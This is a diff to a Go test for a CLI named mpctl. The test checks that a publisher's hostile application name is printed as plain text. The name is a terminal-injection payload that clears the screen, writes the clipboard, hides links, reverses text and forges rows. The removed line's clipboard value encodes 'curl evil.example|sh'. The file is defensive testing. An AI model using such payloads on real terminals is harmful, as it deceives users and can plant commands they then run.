@@ -7,9 +7,9 @@ import (
 )
 
 // terminalAttack is what a publisher can name an application to act on the terminal of whoever lists
-// it: clear the screen, write the clipboard (OSC 52), hide a link (OSC 8), overwrite the line, a C1 CSI,
-// reverse the text (U+202E), and a newline that forges a row.
-const terminalAttack = "Hostile\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]8;;https://evil.example\x1b\\app\x1b]8;;\x1b\\\r\u009b31m\u202eexe.txt\n1  forged  k8s"
+// it (in the 100 characters a name may have): clear the screen, write the clipboard (OSC 52), hide a
+// link (OSC 8), overwrite the line, a C1 CSI, reverse the text (U+202E), and a newline that forges a row.
+const terminalAttack = "Hostile\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://e.x\x1b\\app\x1b]8;;\x1b\\\r\u009b31m\u202eexe.txt\n1  forged  k8s"
 
 // TestCLIShowsHostileTextAsText: the real mpctl prints a publisher's hostile application name and
 // description as text in every format (table, JSON, YAML) and in its messages: nothing a terminal would
